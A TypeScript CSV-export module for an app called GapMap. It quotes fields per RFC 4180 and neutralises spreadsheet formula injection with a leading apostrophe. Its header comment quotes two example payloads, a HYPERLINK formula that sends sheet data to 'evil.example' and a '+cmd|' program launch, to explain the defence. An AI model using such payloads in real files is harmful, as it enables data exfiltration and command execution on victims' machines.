// The one CSV writer: every CSV file GapMap hands out is written here (the respondent links, the
// unsent answers; the exports to come). Pure and without imports, so it runs in the browser
// bundle as well as on the server.
//
// - RFC 4180: fields separated by commas, records ended by CRLF (the last one too), every text
//   field quoted (quotes doubled), so no reader trims, splits or guesses at one.
// - Formula injection (OWASP, "CSV Injection"): a spreadsheet runs a cell that starts with
//   = + - @ as a formula (`=HYPERLINK("http://evil.example/?"&A1)` sends the sheet's data
//   away; `+cmd|...` asks to start a program), and some skip a leading tab, carriage return,
//   line feed or spaces, or read the full-width ＝＋－＠ as their ASCII twins, before they look.
//   A text field like that is written with a leading `'`, which spreadsheets show as text. The
//   price: such text reads back with the `'` in front (a name "-Jo" reads "'-Jo").
// - Numbers are written as they are (a negative number is a number, not a formula), null and
//   undefined as an empty field.
// - `bom: true` starts the file with a UTF-8 byte-order mark, without which Excel reads the file
//   in the machine's legacy code page (accents and curly quotes garbled).

export type CsvCell = string | number | null | undefined;
export type CsvOptions = { bom?: boolean };

const FORMULA_START = /^[\t\r\n]|^[ \u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

/** A text a spreadsheet would take for a formula, made into plain text by a leading `'`. */
export function defuseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One field as written in the file: text defused, then quoted. */
export function csvField(cell: CsvCell): string {
  if (cell === null || cell === undefined) return "";
  if (typeof cell === "number") return Number.isFinite(cell) ? String(cell) : "";
  return `"${defuseFormula(cell).replaceAll('"', '""')}"`;
}

/** The file: one record per row, each ended by CRLF. */
export function toCsv(rows: readonly (readonly CsvCell[])[], options: CsvOptions = {}): string {
  const body = rows.map((row) => `${row.map(csvField).join(",")}\r\n`).join("");
  return options.bom ? `\uFEFF${body}` : body;
}
